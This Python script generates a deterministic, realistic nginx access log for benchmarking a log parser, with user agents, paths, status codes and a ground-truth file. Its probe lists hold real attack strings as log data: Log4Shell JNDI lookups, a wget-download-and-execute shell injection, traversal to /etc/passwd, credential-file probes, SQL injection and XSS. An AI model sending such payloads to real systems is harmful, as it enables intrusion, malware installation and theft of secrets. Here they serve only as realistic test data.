"""A realistic nginx `combined` log for benchmarks (`genlog.py --realistic`).

What a busy public site's access log looks like, so the parser is measured on
the strings it meets in production rather than on a handful of short ones:
- clients: Zipf-distributed over N addresses (~5 % IPv6), all public, each
  with a stable user agent (a NAT or a changed browser now and then);
- user agents of real length: browsers of several versions and platforms,
  crawlers with their URLs, HTTP tools, scanners;
- hundreds of paths (pages, assets with cache-busters, API calls with query
  strings) plus a long tail of unique ones (IDs, search terms, timestamps);
- referers (none, internal, search engines, social), HTTP/1.0, 1.1 and 2.0,
  GET/POST/HEAD/OPTIONS, status and byte counts by kind of resource;
- ~2 % probes (`${jndi:ldap://...}`, `/.env`, `wp-login.php`, traversal,
  SQL injection), and a few requests that are no HTTP at all: TLS handshakes
  on the plain port (`\\x16\\x03\\x01...`, as nginx escapes them) and `"-"`.

Deterministic: one seeded generator, no set or dict iteration order in the
output, no dependencies. About 3-4 s per million lines.
"""
import bisect
import itertools
import json
import random
import time

SEED = 20261207
SITE = "https://www.example.com"
MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPad; CPU OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Android 14; Mobile; rv:133.0) Gecko/133.0 Firefox/133.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 OPR/115.0.0.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1",
]
BOTS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.69 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",
    "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
]
TOOLS = [
    "curl/8.5.0", "curl/7.88.1", "Wget/1.21.3", "python-requests/2.32.3", "python-requests/2.28.1",
    "Go-http-client/1.1", "Go-http-client/2.0", "okhttp/4.12.0", "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "axios/1.7.7", "python-urllib3/2.2.3", "Python/3.11 aiohttp/3.10.10", "libwww-perl/6.72",
]
SCANNERS = [
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "sqlmap/1.8.11#stable (https://sqlmap.org)",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers' presences on the Internet. If you would like to be excluded from our scans, please contact us at: scaninfo@paloaltonetworks.com",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36 Nikto/2.5.0",
    "Fuzz Faster U Fool v2.1.0-dev",
    "${jndi:ldap://45.155.205.233:1389/Basic/Command/Base64/d2dldCBodHRwOi8vMTkzLjQyLjMzLjEwL3g=}",
]
PROBES = [
    "/.env", "/.env.production", "/api/.env", "/.git/config", "/.git/HEAD", "/.aws/credentials",
    "/wp-login.php", "/wp-admin/setup-config.php", "/xmlrpc.php", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/phpmyadmin/index.php", "/pma/", "/server-status",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/cgi-bin/../../../../../../etc/passwd", "/../../../../etc/passwd",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
    "/?x=${jndi:ldap://45.155.205.233:1389/Exploit}", "/${jndi:ldap://198.51.100.23:1389/a}",
    "/boaform/admin/formLogin", "/HNAP1/", "/actuator/env", "/actuator/gateway/routes", "/owa/auth/logon.aspx",
    "/solr/admin/info/system?wt=json", "/console/", "/_ignition/execute-solution", "/api/jsonws/invoke",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://45.95.147.236/bins.sh;chmod+777+bins.sh;sh+bins.sh", "/config.json",
    "/products?id=1%27%20OR%20%271%27%3D%271", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/backup.zip",
]
# What nginx logs for requests that are no HTTP: TLS ClientHellos on the plain
# port (nginx escapes bytes as upper-case \xHH), a scanner's banner, nothing.
NOT_HTTP = [
    "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03",
    "\\x16\\x03\\x01\\x00\\xF1\\x01\\x00\\x00\\xED\\x03\\x03\\xB0\\x8E\\x1D\\x9B\\xA4",
    "\\x16\\x03\\x00\\x00i\\x01\\x00\\x00e\\x03\\x03U\\x1C\\xA7\\xE4random1random2random3random4\\x00\\x00\\x0C\\x00/\\x00",
    "SSH-2.0-Go", "MGLNDD_203.0.113.7_80", "\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr",
    "-", "-", "-",
]
WORDS = ("server linux nginx backup rust python kubernetes docker tls dns firewall proxy cache database index "
         "monitoring alert latency network socket kernel memory disk raid storage email spam login password "
         "invoice pricing shoes jacket winter summer sale gift coffee bike camera phone laptop").split()
REFERERS = ["https://www.google.com/", "https://www.google.de/", "https://www.bing.com/", "https://duckduckgo.com/",
            "https://search.brave.com/", "https://t.co/Xk3pQz9LmA", "https://www.reddit.com/",
            "android-app://com.google.android.gm/", "https://news.ycombinator.com/"]
PUBLIC_FIRST_OCTETS = [o for o in range(1, 224) if o not in (10, 100, 127, 169, 172, 192, 198, 203)]
V6_PREFIXES = ["2a01:4f8", "2a02:8108", "2600:1f18", "2001:41d0", "2a00:1450", "2604:a880", "2a03:2880", "2406:da18"]


def clf_time(t):
    g = time.gmtime(t)
    return "%02d/%s/%04d:%02d:%02d:%02d +0000" % (g.tm_mday, MONTHS[g.tm_mon - 1], g.tm_year, g.tm_hour, g.tm_min, g.tm_sec)


def make_clients(rng, n):
    """N distinct public addresses, ~5 % IPv6, in rank order (rank 0 busiest)."""
    out, seen = [], set()
    while len(out) < n:
        if rng.random() < 0.05:
            ip = "%s:%x:%x::%x" % (rng.choice(V6_PREFIXES), rng.randrange(1, 65536), rng.randrange(1, 65536), rng.randrange(1, 65536))
        else:
            ip = "%d.%d.%d.%d" % (rng.choice(PUBLIC_FIRST_OCTETS), rng.randrange(256), rng.randrange(256), rng.randrange(1, 255))
        if ip not in seen:
            seen.add(ip)
            out.append(ip)
    return out


def make_agents(rng, n):
    """Each client's usual user agent and kind: most browse, some crawl, a few script or scan."""
    agents, kinds = [], []
    for _ in range(n):
        roll = rng.random()
        kind = "browser" if roll < 0.82 else "bot" if roll < 0.90 else "tool" if roll < 0.96 else "scanner"
        pool = {"browser": BROWSERS, "bot": BOTS, "tool": TOOLS, "scanner": SCANNERS}[kind]
        # Browser versions are skewed: the first few entries dominate.
        agents.append(pool[min(int(rng.expovariate(0.25)), len(pool) - 1)] if kind == "browser" else rng.choice(pool))
        kinds.append(kind)
    return agents, kinds


def make_paths(rng):
    """Hundreds of site paths: (path, kind) with kind page, asset or api."""
    paths = [("/", "page"), ("/favicon.ico", "asset"), ("/robots.txt", "asset"), ("/sitemap.xml", "page"),
             ("/apple-touch-icon.png", "asset"), ("/about", "page"), ("/pricing", "page"), ("/contact", "page"),
             ("/login", "page"), ("/feed.xml", "page")]
    for i in range(60):
        slug = "-".join(rng.sample(WORDS, rng.randrange(3, 8)))
        paths.append(("/blog/%d/%02d/%s" % (2019 + i % 8, 1 + i % 12, slug), "page"))
    for section in ("install", "config", "api", "faq", "guides"):
        for i in range(8):
            paths.append(("/docs/%s/%s" % (section, "-".join(rng.sample(WORDS, 2))), "page"))
    for name in ("app", "vendor", "runtime", "main", "chunk-%d" % rng.randrange(100, 999), "polyfills"):
        h = "%08x" % rng.getrandbits(32)
        paths.append(("/static/js/%s.%s.js" % (name, h), "asset"))
        paths.append(("/static/js/%s.%s.js.map" % (name, h), "asset"))
        paths.append(("/static/css/%s.%s.css" % (name, h), "asset"))
    for i in range(80):
        paths.append(("/images/%s-%d.%s" % (rng.choice(WORDS), i, rng.choice(["webp", "jpg", "png", "svg"])), "asset"))
    for font in ("inter-regular", "inter-bold", "jetbrains-mono"):
        paths.append(("/fonts/%s.woff2" % font, "asset"))
    for cat in ("shoes", "jackets", "bikes", "cameras", "laptops", "coffee", "gifts", "sale"):
        paths.append(("/category/%s" % cat, "page"))
        paths.append(("/category/%s?sort=price_asc&page=2" % cat, "page"))
    for ep in ("cart", "session", "user/preferences", "notifications?unread=1", "recommendations?limit=12"):
        paths.append(("/api/v2/%s" % ep, "api"))
    return paths


def long_tail(rng, kind, t):
    """A unique path: IDs, search terms, cache-busters, tracking parameters."""
    if kind == 0:
        return "/products/%d-%s" % (rng.randrange(10000, 999999), rng.choice(WORDS)), "page"
    if kind == 1:
        return "/search?q=%s&page=%d" % ("+".join(rng.sample(WORDS, rng.randrange(1, 4))), rng.randrange(1, 6)), "page"
    if kind == 2:
        return "/static/js/app.js?_=%d%03d" % (t, rng.randrange(1000)), "asset"
    if kind == 3:
        return "/api/v2/items/%d?fields=id,name,price,stock&lang=%s" % (rng.randrange(1, 5000000), rng.choice(["en", "de", "fr"])), "api"
    return "/?utm_source=%s&utm_medium=social&utm_campaign=%s_%d&fbclid=IwAR%016x" % (
        rng.choice(["facebook", "twitter", "newsletter"]), rng.choice(WORDS), rng.randrange(100), rng.getrandbits(64)), "page"


def zipf_cumulative(n, s=1.0, offset=2.0):
    """Cumulative Zipf weights over n ranks; the offset flattens the head (the top
    client sends ~5 %, not ~10 %, of the requests)."""
    return list(itertools.accumulate(1.0 / (r + offset) ** s for r in range(n)))


def response(rng, kind, method):
    """Status and body bytes by kind of resource."""
    roll = rng.random()
    if roll < 0.10 and method in ("GET", "HEAD"):
        return 304, 0
    if roll < 0.13:
        return rng.choice((301, 302)), 162
    if roll < 0.17:
        return 404, 153 if kind != "page" else rng.randrange(4000, 6000)
    if roll < 0.175:
        return 499, 0
    if roll < 0.18:
        return rng.choice((500, 502, 503, 504)), rng.choice((157, 494, 559))
    if roll < 0.185:
        return rng.choice((401, 403, 429)), rng.choice((179, 153, 162))
    if roll < 0.19 and kind == "asset":
        return 206, rng.randrange(1, 1 << 20)
    if method == "HEAD":
        return 200, 0
    if kind == "asset":
        return 200, int(rng.lognormvariate(9.5, 1.4))
    if kind == "api":
        return rng.choice((200, 200, 200, 201, 204)), rng.randrange(2, 8000)
    return 200, rng.randrange(4000, 90000)


def write(out, lines, n_clients, start, truth_path=None, exponent=1.0):
    """`exponent`: the Zipf exponent of the client mix (1.0, a busy site;
    smaller spreads the lines over more of the N clients: benches/curves.py
    uses 0.5 so a pool of 1 M clients puts ~560 k distinct ones in 1 M lines)."""
    rng = random.Random(SEED)
    ips = make_clients(rng, n_clients)
    agents, kinds = make_agents(rng, n_clients)
    paths = make_paths(rng)
    cum = zipf_cumulative(n_clients, exponent)
    total = cum[-1]
    requests = [0] * n_clients
    counts = {"lines": lines, "probes": 0, "not_http": 0, "tail": 0, "bytes": 0, "ipv6_clients": 0}
    stamp_t, stamp = None, ""
    with open(out, "w", encoding="ascii", newline="\n") as f:
        batch = []
        for i in range(lines):
            t = start + i // 50
            if t != stamp_t:
                stamp_t, stamp = t, clf_time(t)
            c = bisect.bisect_left(cum, rng.random() * total)
            c = min(c, n_clients - 1)
            requests[c] += 1
            ip, agent = ips[c], agents[c]
            if rng.random() < 0.04:  # a NAT or a second device
                agent = rng.choice(BROWSERS)
            user = "-"
            roll = rng.random()
            if roll < 0.004:
                counts["not_http"] += 1
                req = rng.choice(NOT_HTTP)
                status, size = (400, rng.choice((157, 166, 150))) if req != "-" else (rng.choice((400, 408)), 0)
                counts["bytes"] += size
                batch.append('%s - - [%s] "%s" %d %d "-" "-"\n' % (ip, stamp, req, status, size))
                continue
            # ~1 % of everyone's requests probe, and a third of a scanner's: ~2 % in all.
            if roll < 0.014 or kinds[c] == "scanner" and roll < 0.33:
                counts["probes"] += 1
                path = rng.choice(PROBES)
                method = "POST" if path.endswith(("eval-stdin.php", "xmlrpc.php", "invoke")) else "GET"
                proto = "HTTP/1.1" if rng.random() < 0.7 else "HTTP/1.0"
                if kinds[c] not in ("scanner", "tool"):
                    agent = rng.choice(SCANNERS + TOOLS)
                status, size = rng.choice(((404, 153), (404, 153), (403, 153), (400, 157), (301, 162)))
                counts["bytes"] += size
                batch.append('%s - - [%s] "%s %s %s" %d %d "-" "%s"\n' % (ip, stamp, method, path, proto, status, size, agent))
                continue
            if roll < 0.11:  # ~10 %: the long tail of unique paths
                counts["tail"] += 1
                path, kind = long_tail(rng, int((roll - 0.014) * 52), t)
            else:
                path, kind = paths[min(int(rng.paretovariate(0.9)) - 1, len(paths) - 1) if roll < 0.6 else rng.randrange(len(paths))]
            method = "GET"
            if kind == "api":
                method = rng.choice(("GET", "GET", "POST", "OPTIONS"))
            elif kinds[c] in ("bot", "tool") and rng.random() < 0.1:
                method = "HEAD"
            elif path == "/login" and rng.random() < 0.3:
                method = "POST"
            if path.startswith("/api/v2/user") and rng.random() < 0.3:
                user = rng.choice(("alice", "bob", "svc-monitor"))
            proto = "HTTP/2.0" if kinds[c] == "browser" and rng.random() < 0.7 else "HTTP/1.1" if rng.random() < 0.9 else "HTTP/1.0"
            status, size = response(rng, kind, method)
            ref_roll = rng.random()
            if kinds[c] != "browser" or ref_roll < 0.35:
                referer = "-"
            elif ref_roll < 0.8:
                referer = SITE + paths[rng.randrange(len(paths))][0]
            else:
                referer = rng.choice(REFERERS)
            counts["bytes"] += size
            batch.append('%s - %s [%s] "%s %s %s" %d %d "%s" "%s"\n' % (ip, user, stamp, method, path, proto, status, size, referer, agent))
            if len(batch) >= 4096:
                f.write("".join(batch))
                batch.clear()
        f.write("".join(batch))
    if truth_path:
        counts["clients"] = sum(1 for r in requests if r)
        counts["ipv6_clients"] = sum(1 for c, r in enumerate(requests) if r and ":" in ips[c])
        counts["requests_by_client"] = {ips[c]: r for c, r in enumerate(requests) if r}
        with open(truth_path, "w", encoding="ascii") as f:
            json.dump(counts, f, sort_keys=True)
